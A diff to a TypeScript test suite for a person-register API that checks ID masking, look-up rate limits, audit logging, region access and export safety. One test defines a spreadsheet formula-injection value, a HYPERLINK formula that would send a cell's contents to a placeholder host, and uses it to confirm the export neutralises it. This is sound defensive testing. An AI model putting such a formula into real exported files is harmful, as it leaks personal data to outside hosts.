@@ -1,5 +1,9 @@
 import ExcelJS from 'exceljs';
 import { beforeAll, expect, it } from 'vitest';
+import { auditPageSchema } from '../../../shared/api/audit.js';
+import { pageOf } from '../../../shared/api/common.js';
+import { organizationSchema } from '../../../shared/api/organizations.js';
+import { personListItemSchema, personPageSchema } from '../../../shared/api/register.js';
 import { regionAt } from '../../../shared/region-code.js';
 import { Scope } from '../../auth/scope.js';
 import { SYSTEM_ACTOR } from '../../bootstrap.js';
@@ -52,8 +56,10 @@ describeEachDialect(
       const { cookie } = await env.loginAs({ role: 'grid_worker', regionCode: grid });
       const list = await env.inject('GET', `/api/persons?region=${grid}&limit=50`, { cookie });
       expect(list.status).toBe(200);
-      expect(list.json.items).toHaveLength(20);
-      for (const item of list.json.items as { id: string; idNumber: string; age: number }[]) {
+      // Loose: a field the schema does not know (a birth date) must stay visible to the checks.
+      const items = list.body(pageOf(personListItemSchema.loose())).items;
+      expect(items).toHaveLength(20);
+      for (const item of items) {
         const source = rows.find((r) => r[1]!.slice(-4) === item.idNumber.slice(-4) && r[0] !== undefined)!;
         expect(item.idNumber).toMatch(/^\d{6}\*{8}[\dX]{4}$/);
         expect(item).not.toHaveProperty('birthDate');
@@ -84,7 +90,7 @@ describeEachDialect(
       expect(statuses.filter((s) => s === 429)).toHaveLength(12 - LOOKUPS_PER_HOUR);
       const refused = answers.find((a) => a.status === 429)!;
       expect(refused.json).toMatchObject({ code: 'person.lookup_limited' });
-      expect(refused.json.message).toContain(String(LOOKUPS_PER_HOUR));
+      expect(refused.error.message).toContain(String(LOOKUPS_PER_HOUR));
       // An ID number is refused too, and so is a later page that would start a new search.
       expect((await env.inject('GET', `/api/persons?q=${rows[0]![1]}`, { cookie })).status).toBe(429);
 
@@ -96,7 +102,7 @@ describeEachDialect(
           cookie: admin,
         },
       );
-      const mine = audit.json.items as { summary: unknown }[];
+      const mine = audit.body(auditPageSchema).items;
       expect(mine).toHaveLength(LOOKUPS_PER_HOUR);
       expect(mine[0]!.summary).toEqual({ kind: 'phone', via: 'register' });
       for (const guess of guesses) expect(JSON.stringify(audit.json)).not.toContain(guess);
@@ -115,7 +121,7 @@ describeEachDialect(
       }
       const over = await env.inject('GET', '/api/work-orders/caller?phone=13900000009', { cookie });
       expect(over.status).toBe(429);
-      expect(over.json.code).toBe('person.lookup_limited');
+      expect(over.error.code).toBe('person.lookup_limited');
     });
 
     it('treats a new member typed by whole ID number as a look-up, and does not say where the person is', async () => {
@@ -129,7 +135,7 @@ describeEachDialect(
       const refused = await env.inject('POST', '/api/members', {
         cookie,
         body: {
-          organizationId: committee.json.id,
+          organizationId: committee.body(organizationSchema).id,
           person: { name: '某人', idNumber: rows[0]![1] },
           category: 'formal',
           status: 'in_service',
@@ -137,27 +143,28 @@ describeEachDialect(
         },
       });
       expect(refused.status).toBe(409);
-      expect(refused.json.message).not.toMatch(/其他辖区|已在/);
+      expect(refused.error.message).not.toMatch(/其他辖区|已在/);
       const admin = await env.loginAdmin();
       const audit = await env.inject('GET', `/api/audit?action=person.looked_up&actor=${username}`, {
         cookie: admin,
       });
-      expect(audit.json.items.map((e: { summary: unknown }) => e.summary)).toEqual([
+      expect(audit.body(auditPageSchema).items.map((e) => e.summary)).toEqual([
         { kind: 'id_number', via: 'member_create' },
       ]);
     });
 
     it('refuses a reason that says nothing: dots, spaces, zero-width characters', async () => {
       const { cookie } = await env.loginAs({ role: 'secretary', regionCode: QINGNIAN });
-      const [person] = (await env.inject('GET', `/api/persons?region=${grid}&limit=1`, { cookie })).json
-        .items;
+      const person = (await env.inject('GET', `/api/persons?region=${grid}&limit=1`, { cookie })).body(
+        personPageSchema,
+      ).items[0]!;
       for (const reason of ['..', '。。。', ' \u200b\u200b ', 'a\u200d', '\u202e\u202d--']) {
         const response = await env.inject('POST', `/api/persons/${person.id}/reveal`, {
           cookie,
           body: { field: 'idNumber', reason },
         });
         expect(response.status, JSON.stringify(reason)).toBe(400);
-        expect(response.json.fields).toEqual([{ path: 'reason', message: expect.any(String) }]);
+        expect(response.error.fields).toEqual([{ path: 'reason', message: expect.any(String) }]);
       }
       const ok = await env.inject('POST', `/api/persons/${person.id}/reveal`, {
         cookie,
@@ -178,28 +185,27 @@ describeEachDialect(
       ]) {
         const response = await env.inject('GET', url, { cookie });
         expect(response.status, url).toBe(404);
-        expect(response.json.code, url).toBe('region.not_found');
+        expect(response.error.code, url).toBe('region.not_found');
       }
-      const exported = await env.app.inject({
-        method: 'POST',
-        url: '/api/persons/export',
-        headers: { cookie },
-        payload: { region: otherGrid },
+      const exported = await env.inject('POST', '/api/persons/export', {
+        cookie,
+        body: { region: otherGrid },
       });
-      expect(exported.statusCode).toBe(404);
-      expect(exported.json().code).toBe('region.not_found');
+      expect(exported.status).toBe(404);
+      expect(exported.error.code).toBe('region.not_found');
       // A region above one's own narrows to one's own: the street filter shows 青年社区's people.
       const street = await env.inject('GET', `/api/persons?region=${regionAt(QINGNIAN, 'street')}`, {
         cookie,
       });
       expect(street.status).toBe(200);
-      expect(street.json.items.length).toBeGreaterThan(0);
+      expect(street.body(personPageSchema).items.length).toBeGreaterThan(0);
     });
 
     it('audits a masked export and writes no cell a spreadsheet would run as a formula', async () => {
       const { cookie, username } = await signIn('secretary', QINGNIAN);
-      const [person] = (await env.inject('GET', `/api/persons?region=${grid}&limit=1`, { cookie })).json
-        .items;
+      const person = (await env.inject('GET', `/api/persons?region=${grid}&limit=1`, { cookie })).body(
+        personPageSchema,
+      ).items[0]!;
       const hostile = '=HYPERLINK("http://example.invalid/?"&B2,"点击")';
       const corrected = await env.inject('PATCH', `/api/persons/${person.id}`, {
         cookie,
@@ -232,9 +238,7 @@ describeEachDialect(
       const audit = await env.inject('GET', `/api/audit?action=person.exported&actor=${username}&limit=50`, {
         cookie: admin,
       });
-      const mine = (audit.json.items as { action: string; summary: { filter: unknown } }[]).filter(
-        (e) => e.action === 'person.exported',
-      );
+      const mine = audit.body(auditPageSchema).items.filter((e) => e.action === 'person.exported');
       expect(mine).toHaveLength(1);
       expect(mine[0]!.summary.filter).toEqual({ region: grid });
     });
